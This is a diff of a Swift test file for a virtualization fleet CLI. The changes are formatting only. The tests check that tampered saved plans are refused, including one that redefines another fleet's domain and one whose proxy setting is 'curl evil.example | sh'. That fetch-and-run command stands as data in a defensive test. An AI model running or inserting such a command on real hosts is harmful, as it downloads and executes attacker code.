@@ -5,6 +5,7 @@ import VirtFleetHypervisor
 import VirtFleetInventory
 import VirtFleetPlan
 import VirtFleetTestSupport
+
 @testable import VirtFleetCLI
 
 /// A saved plan is a file anyone who can write it can edit. Each case edits one the way an
@@ -79,14 +80,19 @@ import VirtFleetTestSupport
     @Test func anAddedUpdateOfAnotherFleetsDomainIsRefused() async throws {
         let foreign = FakeHypervisor(host: "hv1")
         let other = try TestFleet([
-            "inventory/f.yaml": "fleet: other\ntemplates: ../templates\nhosts:\n  hv1: {}\nguests:\n  - { name: theirs, template: small, host: hv1 }\n",
+            "inventory/f.yaml":
+                "fleet: other\ntemplates: ../templates\nhosts:\n  hv1: {}\nguests:\n  - { name: theirs, template: small, host: hv1 }\n",
             "templates/small.yaml": TestFleet.smallTemplate,
         ])
-        #expect(await CommandHarness(hypervisors: ["hv1": foreign]).run(["apply", "-i", other.path("inventory"), "--auto-approve"]).code == 0)
+        #expect(
+            await CommandHarness(hypervisors: ["hv1": foreign]).run(["apply", "-i", other.path("inventory"), "--auto-approve"]).code == 0)
         let theirs = try #require(await foreign.domains["theirs"])
         // Our plan, planned against the same host, gets an extra entry redefining their domain under our mark.
         let ours = fleet.path("ours.json")
-        #expect(await CommandHarness(hypervisors: ["hv1": foreign, "hv2": fakes["hv2"]!]).run(["plan", "-i", fleet.path("inventory"), "--out", ours]).code == 0)
+        #expect(
+            await CommandHarness(hypervisors: ["hv1": foreign, "hv2": fakes["hv2"]!]).run([
+                "plan", "-i", fleet.path("inventory"), "--out", ours,
+            ]).code == 0)
         var plan = try PlanFile.read(ours)
         var stolen = try #require(plan.hosts[0].entries.first { $0.guest == "db" })
         guard case .create(let creation) = stolen.change else { throw CancellationError() }
@@ -95,8 +101,10 @@ import VirtFleetTestSupport
         let document = try LibXMLParser.parse(xml, file: "theirs")
         stolen.guest = "theirs"
         stolen.observed = ObservedFingerprint(uuid: try #require(theirs.xml.first("uuid")?.text), state: .shutoff, readbackHash: "x")
-        stolen.change = .redefine(Redefinition(cause: .inventoryChanged, definition: Definition(xml: xml, hash: DomainHash.of(document)),
-                                               then: .none, restartNeeded: false, differences: []))
+        stolen.change = .redefine(
+            Redefinition(
+                cause: .inventoryChanged, definition: Definition(xml: xml, hash: DomainHash.of(document)),
+                then: .none, restartNeeded: false, differences: []))
         plan.hosts[0].entries = [stolen]
         try PlanFile.write(plan, to: ours)
         let run = await CommandHarness(hypervisors: ["hv1": foreign]).run(["apply", ours])
@@ -108,7 +116,9 @@ import VirtFleetTestSupport
         try edit { plan in plan.hosts[0].access?.libvirtProxy = "curl evil.example | sh" }
         let refused = await apply()
         #expect(refused.code == 1)
-        #expect(refused.errors.contains("the saved plan sets hv1.libvirt_proxy = 'curl evil.example | sh', which runs this command on the host"))
+        #expect(
+            refused.errors.contains("the saved plan sets hv1.libvirt_proxy = 'curl evil.example | sh', which runs this command on the host")
+        )
         #expect(refused.errors.contains("--allow-setting 'hv1.libvirt_proxy=curl evil.example | sh'"))
         #expect(await fakes["hv1"]?.calls == [])
         let shown = await CommandHarness().run(["show", file])
